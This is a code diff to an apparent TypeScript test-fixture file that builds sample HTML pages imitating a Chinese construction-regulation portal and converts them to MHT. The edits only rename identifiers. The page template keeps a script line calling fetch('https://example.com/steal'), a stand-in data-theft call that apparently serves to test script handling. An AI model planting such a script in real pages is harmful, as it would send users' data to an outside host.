@@ -18,7 +18,7 @@ const page = (...parts: readonly string[]) =>
   `<!DOCTYPE html><html><head><meta charset="utf-8"><title>示例：全国建筑市场监管公共服务平台</title>
   <script>document.title = '示例脚本'; fetch('https://example.com/steal')</script></head><body><h2>示例页面</h2>${parts.join('\n')}</body></html>`;
 
-export const PEOPLE_HEADS = ['序号', '姓名', '身份证号', '注册类别', '注册号（执业印章号）', '注册专业'];
+export const PEOPLE_HEADINGS = ['序号', '姓名', '身份证号', '注册类别', '注册号（执业印章号）', '注册专业'];
 
 export const enterprisePage = (creditCode: string, rest: Partial<Record<'name' | 'legal', string>> = {}) =>
   page(
@@ -29,10 +29,10 @@ export const enterprisePage = (creditCode: string, rest: Partial<Record<'name' |
 
 export const peoplePage = (rows: readonly (readonly string[])[], total: number) =>
   page(
-    headTable(PEOPLE_HEADS),
+    headTable(PEOPLE_HEADINGS),
     bodyTable(rows),
     // The same columns again, as the page repeats them for fixed columns.
-    headTable(PEOPLE_HEADS),
+    headTable(PEOPLE_HEADINGS),
     bodyTable(rows),
     `<div class="el-pagination"><span>共 ${total} 条</span></div>`,
   );
@@ -58,7 +58,7 @@ const quoted = (text: string) =>
     .replace(/(.{72})/g, '$1=\r\n');
 
 /** Converts a page to the format in which a browser saves a complete page. */
-export const asMht = (html: string) =>
+export const convertToMht = (html: string) =>
   [
     'From: <Saved by Blink>',
     'Snapshot-Content-Location: https://example.com/示例',
